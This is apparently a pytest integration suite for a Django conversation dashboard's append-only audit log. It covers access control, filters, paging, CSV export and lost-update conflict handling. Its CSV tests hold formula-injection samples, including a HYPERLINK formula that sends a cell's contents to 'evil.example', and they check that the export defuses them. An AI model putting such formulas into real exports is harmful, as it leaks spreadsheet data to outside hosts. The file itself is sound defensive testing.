"""The audit log: every attempt at an action is one append-only row (who, which conversation,
before, after, how it ended); the audit page is for owners and staff, filters, pages and exports
CSV safely; and an action on a conversation that changed since the card was drawn is not sent
(no lost update) unless the user applies it anyway."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from html import unescape

import pytest
from django.test import Client
from django.utils import timezone

from dashboard.audit.views import CSV_COLUMNS, PER_PAGE
from dashboard.conversations.models import AppendOnlyError, AuditEntry
from tests.integration.conftest import body_of, first_conversation, member_ids

pytestmark = [pytest.mark.integration, pytest.mark.django_db]

HTMX = {"HTTP_HX_REQUEST": "true"}
NEXT = "/?status=active"

@pytest.fixture(autouse=True)
def fast_passwords(settings):
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


def card_form(conversation: dict, **extra) -> dict:
    """What the card's action form sends, CSRF aside: the state it was drawn from (and where to
    go back to, which browsers send as the Referer; the test client sends none, so `next`)."""
    assignee = (conversation.get("assignedTo") or {}).get("uniqueId", "")
    return {"next": NEXT, "seen": f"{conversation['status']}:{assignee}", **extra}


def upstream(sandbox, cid: str) -> dict:
    return sandbox.get(f"/conversation/{cid}")["conversation"]


def warmed(client: Client, upstream_calls: list) -> Client:
    assert client.get("/").status_code == 200
    upstream_calls.clear()
    return client


def entry(**fields) -> AuditEntry:
    values = {
        "user_email": "someone@example.com",
        "member_name": "Someone",
        "conversation_id": "11111111-1111-1111-1111-111111111111",
        "contact_name": "A contact",
        "action": "close",
        "via": AuditEntry.Via.CARD,
        "outcome": AuditEntry.Outcome.SUCCEEDED,
        **fields,
    }
    if values["outcome"] != AuditEntry.Outcome.PENDING:
        values.setdefault("completed_at", values.get("started_at") or timezone.now())
    row = AuditEntry(**values)
    row.save()
    return row


ROW_RE = re.compile(r'<tr class="outcome-(?P<outcome>\w+)">(?P<cells>.*?)</tr>', re.S)


def text(markup: str) -> str:
    """What a reader sees: tags dropped, entities decoded, whitespace squashed."""
    inline = re.sub(r"</?(?:bdi|strong|em|b|i|span|a|time|output)\b[^>]*>", "", markup)
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", inline)).split())


def table_rows(body: str) -> list[tuple[str, str]]:
    """(outcome class, visible text) of every audit row in the page."""
    return [(m.group("outcome"), text(m.group("cells"))) for m in ROW_RE.finditer(body)]


def rows(body: str) -> int:
    return len(table_rows(body))


# --- What an action writes ----------------------------------------------------------------------


def test_closing_from_a_card_writes_exactly_one_complete_entry(login_as, fresh_wapikit, upstream_calls):
    client = warmed(login_as("manager"), upstream_calls)
    conversation = first_conversation(fresh_wapikit, "Active")
    cid = conversation["uniqueId"]
    before = AuditEntry.objects.count()

    response = client.post(f"/conversations/{cid}/close/", card_form(conversation), **HTMX)

    assert response.status_code == 200
    assert AuditEntry.objects.count() == before + 1
    row = AuditEntry.objects.get(conversation_id=cid)
    assert row.user_email == "manager@example.com"
    assert row.member_name == "Lucas Moreau"
    assert row.member_id == member_ids(fresh_wapikit)["manager@example.com"]
    assert row.conversation_id == cid
    assert row.contact_name == conversation["contact"]["name"]
    assert row.action == "close"
    assert row.via == "card"
    assert row.before_status == "Active"
    assert row.after_status == "Closed"
    assert row.outcome == "succeeded"
    assert row.completed_at is not None and row.completed_at >= row.started_at
    assert row.error_kind == ""
    assert upstream(fresh_wapikit, cid)["status"] == "Closed"


def test_closing_from_the_conversation_page_is_recorded_as_via_page(login_as, fresh_wapikit, upstream_calls):
    client = warmed(login_as("manager"), upstream_calls)
    conversation = first_conversation(fresh_wapikit, "Active")
    cid = conversation["uniqueId"]
    form = {k: v for k, v in card_form(conversation).items() if k != "next"}
    # htmx names the page the card is on; the card's form carries no `next`.
    on_page = {**HTMX, "HTTP_HX_CURRENT_URL": f"http://testserver/conversations/{cid}/"}
    assert client.post(f"/conversations/{cid}/close/", form, **on_page).status_code == 200
    assert AuditEntry.objects.get(conversation_id=cid).via == "page"


def test_a_forbidden_attempt_is_audited_as_denied_and_nothing_is_sent(login_as, fresh_wapikit, upstream_calls):
    client = warmed(login_as("agent"), upstream_calls)
    conversation = first_conversation(fresh_wapikit, "Active")
    cid = conversation["uniqueId"]

    response = client.post(f"/conversations/{cid}/close/", card_form(conversation), **HTMX)

    assert response.status_code == 403
    row = AuditEntry.objects.get(conversation_id=cid)
    assert (row.user_email, row.member_name, row.action) == ("agent@example.com", "Priya Raman", "close")
    assert row.outcome == "denied"
    assert row.completed_at is not None
    assert upstream_calls == []
    assert upstream(fresh_wapikit, cid)["status"] == "Active"


def test_a_failed_attempt_is_audited_with_its_error(login_as, fresh_wapikit, upstream_calls):
    client = warmed(login_as("manager"), upstream_calls)
    conversation = first_conversation(fresh_wapikit, "Active")
    cid = conversation["uniqueId"]
    fresh_wapikit.control(fault="status_500", fault_methods=["POST"])
    try:
        response = client.post(f"/conversations/{cid}/close/", card_form(conversation), **HTMX)
    finally:
        fresh_wapikit.control(reset=True, latency_ms=0)

    assert response.status_code == 502
    row = AuditEntry.objects.get(conversation_id=cid)
    assert row.outcome == "failed"
    assert row.error_kind == "server_error"
    assert row.before_status == "Active"
    assert row.after_status == ""
    assert row.completed_at is not None
    assert [c.method for c in upstream_calls] == ["GET", "POST"]
    assert upstream(fresh_wapikit, cid)["status"] == "Active"


# --- Append-only ---------------------------------------------------------------------------------


def test_a_saved_row_cannot_be_saved_again():
    row = entry()
    row.contact_name = "changed"
    with pytest.raises(AppendOnlyError):
        row.save()
    assert AuditEntry.objects.get(pk=row.pk).contact_name == "A contact"


def test_a_row_cannot_be_deleted():
    row = entry()
    with pytest.raises(AppendOnlyError):
        row.delete()
    assert AuditEntry.objects.filter(pk=row.pk).exists()


def test_querysets_cannot_update_or_delete_rows():
    row = entry()
    with pytest.raises(AppendOnlyError):
        AuditEntry.objects.filter(pk=row.pk).update(outcome="failed")
    with pytest.raises(AppendOnlyError):
        AuditEntry.objects.filter(pk=row.pk).delete()
    with pytest.raises(AppendOnlyError):
        AuditEntry.objects.all().delete()
    with pytest.raises(AppendOnlyError):
        AuditEntry.objects.update(outcome="failed")
    assert AuditEntry.objects.get(pk=row.pk).outcome == "succeeded"


def test_a_pending_row_is_completed_once_and_never_again():
    row = entry(outcome=AuditEntry.Outcome.PENDING)
    row.complete(outcome=AuditEntry.Outcome.SUCCEEDED, after_status="Closed")
    stored = AuditEntry.objects.get(pk=row.pk)
    assert stored.outcome == "succeeded" and stored.after_status == "Closed" and stored.completed_at
    with pytest.raises(AppendOnlyError):
        row.complete(outcome=AuditEntry.Outcome.FAILED)
    assert AuditEntry.objects.get(pk=row.pk).outcome == "succeeded"


def test_a_pending_row_shows_as_unfinished_on_the_audit_page(login_as, wapikit):
    entry(outcome=AuditEntry.Outcome.PENDING, contact_name="Never finished")
    body = body_of(login_as("owner").get("/audit/"))
    pending = [row for outcome, row in table_rows(body) if outcome == "pending"]
    assert len(pending) == 1, "the pending row is listed"
    assert "Never finished" in pending[0]
    assert "unfinished" in pending[0]


# --- Who may read it --------------------------------------------------------------------------


def test_owner_may_read_the_audit_log(login_as, wapikit):
    entry(contact_name="Visible row")
    response = login_as("owner").get("/audit/")
    assert response.status_code == 200
    assert "Visible row" in body_of(response)


def test_staff_may_read_the_audit_log_without_a_wapikit_member(client, make_user, wapikit):
    staff = make_user("staff@example.com")
    staff.is_staff = True
    staff.save()
    client.force_login(staff)
    entry(contact_name="Visible row")
    response = client.get("/audit/")
    assert response.status_code == 200
    assert "Visible row" in body_of(response)


@pytest.mark.parametrize("kind", ["manager", "agent", "norole", "closer"])
def test_other_members_may_not_read_it_nor_export_it(kind, login_as, wapikit):
    entry(contact_name="Secret row")
    client = login_as(kind)
    for url in ("/audit/", "/audit/?format=csv"):
        response = client.get(url)
        assert response.status_code == 403
        assert response.get("Content-Type", "").startswith("text/html")
        assert "Secret row" not in body_of(response)


def test_anonymous_visitors_are_sent_to_sign_in(client):
    response = client.get("/audit/?format=csv")
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/login/")


# --- Filters, pages, CSV --------------------------------------------------------------------------


@pytest.fixture
def varied_rows():
    now = timezone.now()
    a, b = "aaaaaaaa-0000-4000-8000-000000000001", "bbbbbbbb-0000-4000-8000-000000000002"
    entry(contact_name="R1", user_email="manager@example.com", action="close", conversation_id=a, started_at=now)
    entry(contact_name="R2", user_email="manager@example.com", action="assign", outcome="failed", error_kind="server_error",
          conversation_id=b, started_at=now - timedelta(days=1))
    entry(contact_name="R3", user_email="jonas.becker@example.com", action="delete", outcome="denied", conversation_id=a,
          started_at=now - timedelta(days=3))
    entry(contact_name="R4", user_email="fatima.elamrani@example.com", action="close", outcome="skipped",
          conversation_id=b, started_at=now - timedelta(days=10))
    entry(contact_name="R5", user_email="owner@example.com", action="reopen", conversation_id=a, outcome="pending",
          started_at=now - timedelta(days=30))
    return {"a": a, "b": b, "now": now}


def shown(body: str) -> set[str]:
    return {name for _, row in table_rows(body) for name in re.findall(r"\bR\d\b", row)}


@pytest.mark.parametrize(
    "query, expected",
    [
        ("", {"R1", "R2", "R3", "R4", "R5"}),
        ("user=manager@", {"R1", "R2"}),
        ("user=FATIMA", {"R4"}),
        ("action=close", {"R1", "R4"}),
        ("outcome=denied", {"R3"}),
        ("outcome=pending", {"R5"}),
        ("conversation={a}", {"R1", "R3", "R5"}),
        ("conversation={B}", {"R2", "R4"}),
        ("since={d2}", {"R1", "R2"}),
        ("until={d5}", {"R4", "R5"}),
        ("since={d12}&until={d2}", {"R3", "R4"}),
        ("user=manager&action=assign&outcome=failed", {"R2"}),
        ("action=close&outcome=denied", set()),
    ],
)
def test_filters(query, expected, login_as, wapikit, varied_rows):
    now = varied_rows["now"]

    def day(n: int) -> str:
        return (now - timedelta(days=n)).date().isoformat()

    query = query.format(a=varied_rows["a"], B=varied_rows["b"].upper(), d2=day(2), d5=day(5), d12=day(12))
    response = login_as("owner").get(f"/audit/?{query}")
    assert response.status_code == 200
    assert shown(body_of(response)) == expected


def test_paging(client, make_user):
    staff = make_user("staff@example.com")
    staff.is_staff = True
    staff.save()
    client.force_login(staff)
    start = timezone.now()
    for i in range(PER_PAGE + 12):
        entry(contact_name=f"P{i:03d}", started_at=start - timedelta(minutes=i))
    entry(contact_name="Other action", action="reopen", started_at=start)

    first = body_of(client.get("/audit/?action=close"))
    assert rows(first) == PER_PAGE
    assert f"Page 1 of 2 · {PER_PAGE + 12} entries" in first
    assert "P000" in first and f"P{PER_PAGE - 1:03d}" in first and f"P{PER_PAGE:03d}" not in first
    next_link = re.search(r'<a rel="next" href="\?([^"]+)">', first).group(1).replace("&amp;", "&")
    assert "action=close" in next_link and "page=2" in next_link

    second = body_of(client.get(f"/audit/?{next_link}"))
    assert rows(second) == 12
    assert f"P{PER_PAGE:03d}" in second and f"P{PER_PAGE + 11:03d}" in second and "P000" not in second
    assert "Other action" not in first + second
    assert "Page 2 of 2" in second


def read_csv(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(content)))


def test_csv_export_has_a_header_and_only_the_filtered_rows(login_as, wapikit, varied_rows):
    response = login_as("owner").get("/audit/?action=close&format=csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    table = read_csv(response)
    assert table[0] == list(CSV_COLUMNS)
    records = [dict(zip(table[0], row)) for row in table[1:]]
    assert sorted(r["contact_name"] for r in records) == ["R1", "R4"]
    assert all(r["action"] == "close" for r in records)
    assert {r["outcome"] for r in records} == {"succeeded", "skipped"}


def test_csv_export_of_all_rows(login_as, wapikit, varied_rows):
    table = read_csv(login_as("owner").get("/audit/?format=csv"))
    assert len(table) == 1 + 5


@pytest.mark.parametrize(
    "name",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "=1+2", "+1-2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
)
def test_csv_export_defuses_formulas(name, login_as, wapikit):
    entry(contact_name=name, member_name=name, detail=name)
    table = read_csv(login_as("owner").get("/audit/?format=csv"))
    record = dict(zip(table[0], table[1]))
    for column in ("contact_name", "member_name", "detail"):
        assert record[column] == "'" + name, column
        assert record[column].count("'") == 1 + name.count("'")


@pytest.mark.parametrize("name", [" =1+1", "  @SUM(A1)", "Bob;=1+1", "Ana,=2+2"])
def test_csv_export_quotes_every_cell_and_defuses_formulas_behind_spaces_or_delimiters(name, login_as, wapikit):
    """Regression (issue 10, finding 4): read with ";" as the delimiter (semicolon locales), an
    unquoted `Bob;=1+1` gave a cell starting with "="; ` =1+1` was not defused at all."""
    entry(contact_name=name)
    content = b"".join(login_as("owner").get("/audit/?format=csv").streaming_content).decode()

    for line in content.splitlines():
        assert line.startswith('"') and line.endswith('"'), "every cell quoted"
    for delimiter in (",", ";"):
        for row in csv.reader(io.StringIO(content), delimiter=delimiter):
            assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row), (delimiter, row)
    record = dict(zip(*list(csv.reader(io.StringIO(content)))[:2]))
    assert record["contact_name"].replace("'", "") == name, "defused, nothing else changed"


def test_csv_export_keeps_ordinary_text(login_as, wapikit):
    entry(contact_name="O'Connor, Siobhán \"Shiv\"")
    table = read_csv(login_as("owner").get("/audit/?format=csv"))
    assert dict(zip(table[0], table[1]))["contact_name"] == "O'Connor, Siobhán \"Shiv\""


# --- No lost update -------------------------------------------------------------------------------


def test_a_status_change_since_the_card_was_drawn_is_not_overwritten(login_as, fresh_wapikit, upstream_calls):
    client = warmed(login_as("manager"), upstream_calls)
    conversation = first_conversation(fresh_wapikit, "Active")  # the state the card was drawn from
    cid = conversation["uniqueId"]
    assert fresh_wapikit.post(f"/conversation/{cid}", {"status": "Closed"}).status_code == 200

    response = client.post(f"/conversations/{cid}/close/", card_form(conversation), **HTMX)

    assert response.status_code == 409
    body = body_of(response)
    assert f'id="c-{cid}"' in body and body.count("<article") == 1
    assert '<span class="badge badge-closed">Closed</span>' in body
    assert "its status changed from Active to Closed" in text(body)
    # The user wanted it closed, and it is (issue 20): nothing to apply anyway.
    assert "It is already closed." in text(body)
    assert "Apply anyway" not in body
    assert [(c.method, c.path) for c in upstream_calls] == [("GET", f"/conversation/{cid}")]
    row = AuditEntry.objects.get(conversation_id=cid)
    assert row.outcome == "skipped" and "Changed since the user saw it" in row.detail


def test_a_reassignment_since_the_card_was_drawn_blocks_close_until_applied_anyway(
    login_as, fresh_wapikit, upstream_calls
):
    client = warmed(login_as("manager"), upstream_calls)
    conversation = first_conversation(fresh_wapikit, "Active", assigned=False)
    cid = conversation["uniqueId"]
    mei = member_ids(fresh_wapikit)["mei.chen@example.com"]
    assert fresh_wapikit.post(f"/conversation/{cid}/assign", {"organizationMemberId": mei}).status_code == 200

    response = client.post(f"/conversations/{cid}/close/", card_form(conversation), **HTMX)

    assert response.status_code == 409
    body = body_of(response)
    assert "it was reassigned from nobody to Mei Chen" in text(body)
    assert "Assigned to Mei Chen" in text(body)
    assert '<input type="hidden" name="force" value="yes">' in body
    assert ">Apply anyway</button>" in body
    assert [c.method for c in upstream_calls] == ["GET"]
    assert upstream(fresh_wapikit, cid)["status"] == "Active"

    # "Apply anyway" posts the redrawn card's state with force=yes.
    upstream_calls.clear()
    forced = client.post(
        f"/conversations/{cid}/close/",
        {**card_form(conversation), "seen": f"{conversation['status']}:{mei}", "force": "yes", "confirmed": "yes"},
        **HTMX,
    )
    assert forced.status_code == 200
    assert f"Closed the conversation with {conversation['contact']['name']}." in text(body_of(forced))
    assert [c.method for c in upstream_calls] == ["GET", "POST"]
    assert upstream(fresh_wapikit, cid)["status"] == "Closed"


def test_force_applies_even_with_a_stale_card(login_as, fresh_wapikit, upstream_calls):
    client = warmed(login_as("manager"), upstream_calls)
    conversation = first_conversation(fresh_wapikit, "Active", assigned=False)
    cid = conversation["uniqueId"]
    mei = member_ids(fresh_wapikit)["mei.chen@example.com"]
    fresh_wapikit.post(f"/conversation/{cid}/assign", {"organizationMemberId": mei})

    response = client.post(f"/conversations/{cid}/close/", card_form(conversation, force="yes"), **HTMX)

    assert response.status_code == 200
    assert upstream(fresh_wapikit, cid)["status"] == "Closed"


def test_the_conflict_names_the_dashboard_user_who_made_the_change(login_as, make_user, fresh_wapikit, upstream_calls):
    manager = warmed(login_as("manager"), upstream_calls)
    closer = Client()
    closer.force_login(make_user("closer"))
    conversation = first_conversation(fresh_wapikit, "Active", assigned=False)  # both cards show this
    cid = conversation["uniqueId"]
    agent = member_ids(fresh_wapikit)["agent@example.com"]

    assigned = manager.post(f"/conversations/{cid}/assign/", card_form(conversation, member_id=agent), **HTMX)
    assert assigned.status_code == 200
    upstream_calls.clear()

    response = closer.post(f"/conversations/{cid}/close/", card_form(conversation), **HTMX)

    assert response.status_code == 409
    body = body_of(response)
    assert "it was reassigned from nobody to Priya Raman" in text(body)
    assert "by Lucas Moreau" in text(body)
    assert [c.method for c in upstream_calls] == ["GET"]
    assert upstream(fresh_wapikit, cid)["status"] == "Active"


def test_without_htmx_a_conflict_sends_the_user_back_with_a_readable_warning(login_as, fresh_wapikit, upstream_calls):
    client = warmed(login_as("manager"), upstream_calls)
    conversation = first_conversation(fresh_wapikit, "Active", assigned=False)
    cid = conversation["uniqueId"]
    mei = member_ids(fresh_wapikit)["mei.chen@example.com"]
    fresh_wapikit.post(f"/conversation/{cid}/assign", {"organizationMemberId": mei})

    response = client.post(f"/conversations/{cid}/close/", card_form(conversation))

    assert response.status_code == 302 and response["Location"] == NEXT
    assert [c.method for c in upstream_calls] == ["GET"]
    page = body_of(client.get(NEXT))
    flash = re.search(r'<li class="flash-warning">(.*?)</li>', page, re.S)
    assert flash, "the warning is shown on the page the user returns to"
    assert "it was reassigned from nobody to Mei Chen" in text(flash.group(1))
    assert "&lt;" not in flash.group(1), f"markup shown as text: {flash.group(1)}"
    assert upstream(fresh_wapikit, cid)["status"] == "Active"


def test_without_htmx_a_close_is_audited_and_flashed_as_readable_text(login_as, fresh_wapikit, upstream_calls):
    client = warmed(login_as("manager"), upstream_calls)
    conversation = first_conversation(fresh_wapikit, "Active")
    cid = conversation["uniqueId"]

    response = client.post(f"/conversations/{cid}/close/", card_form(conversation))

    assert response.status_code == 302 and response["Location"] == NEXT
    row = AuditEntry.objects.get(conversation_id=cid)
    assert (row.via, row.outcome, row.before_status, row.after_status) == ("card", "succeeded", "Active", "Closed")
    page = body_of(client.get(NEXT))
    flash = re.search(r'<li class="flash-success">(.*?)</li>', page, re.S)
    assert flash
    assert text(flash.group(1)) == f"Closed the conversation with {conversation['contact']['name']}. Undo"
    assert "&lt;" not in flash.group(1)


def test_a_conversation_s_history_is_for_owners_and_managers_and_the_whole_log_for_owners_and_staff(
    make_user, wapikit
):
    """Regression (issue 10, finding 7): a view-only agent saw 50 history rows (other users'
    emails, their denied attempts) while /audit/ was refused to them. Issue 20: a manager (whose
    roles allow Assign:Conversation) saw no history at all before acting. Now each conversation's
    page shows its history to Owners and managers; the whole log stays for Owners and staff;
    agents and a closer (Update:Conversation without Assign) see neither."""
    cid = first_conversation(wapikit, "Active")["uniqueId"]
    other = first_conversation(wapikit, "Closed")["uniqueId"]
    entry(conversation_id=cid, user_email="someone.else@example.com", outcome="denied")
    entry(conversation_id=other, user_email="not.this.one@example.com", outcome="succeeded")
    staff = make_user("staff@example.com")
    staff.is_staff = True
    staff.save()
    readers = {"staff": Client()}
    readers["staff"].force_login(staff)
    for kind in ("owner", "manager", "agent", "closer"):
        readers[kind] = Client()
        readers[kind].force_login(make_user(kind))

    history, whole_log = set(), set()
    for kind, client in readers.items():
        page = body_of(client.get(f"/conversations/{cid}/"))
        if "History in this dashboard" in page:
            history.add(kind)
            assert "someone.else@example.com" in page, kind
            assert "not.this.one@example.com" not in page, f"{kind} sees another conversation's history"
        else:
            assert "someone.else@example.com" not in page, kind
        if client.get("/audit/").status_code == 200:
            whole_log.add(kind)
    # Staff without a WapiKit member may not view a conversation at all, so they have no page.
    assert history == {"owner", "manager"}
    assert whole_log == {"owner", "staff"}


def test_an_audit_row_records_the_client_s_address_behind_trusted_proxies(login_as, fresh_wapikit, settings):
    settings.TRUSTED_PROXY_COUNT = 1
    cid = first_conversation(fresh_wapikit, "Active")["uniqueId"]
    client = login_as("manager")

    client.post(
        f"/conversations/{cid}/close/", {"seen": "Active:?"},
        REMOTE_ADDR="10.0.0.2", HTTP_X_FORWARDED_FOR="192.0.2.1, 198.51.100.23",
    )

    assert AuditEntry.objects.get(conversation_id=cid).client_address == "198.51.100.23"
    table = read_csv(login_as("owner").get("/audit/?format=csv"))
    assert dict(zip(table[0], table[1]))["client_address"] == "198.51.100.23"
